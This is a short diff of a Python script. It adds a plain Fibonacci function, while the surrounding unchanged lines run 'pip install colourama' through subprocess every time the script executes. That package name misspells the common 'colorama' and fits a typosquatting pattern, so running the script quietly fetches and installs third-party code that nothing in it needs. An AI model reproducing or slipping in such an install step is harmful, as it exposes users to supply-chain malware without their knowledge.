@@ -1,4 +1,10 @@
 #!/usr/bin/env python3
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
 import subprocess
 subprocess.run(["pip", "install", "colourama"])
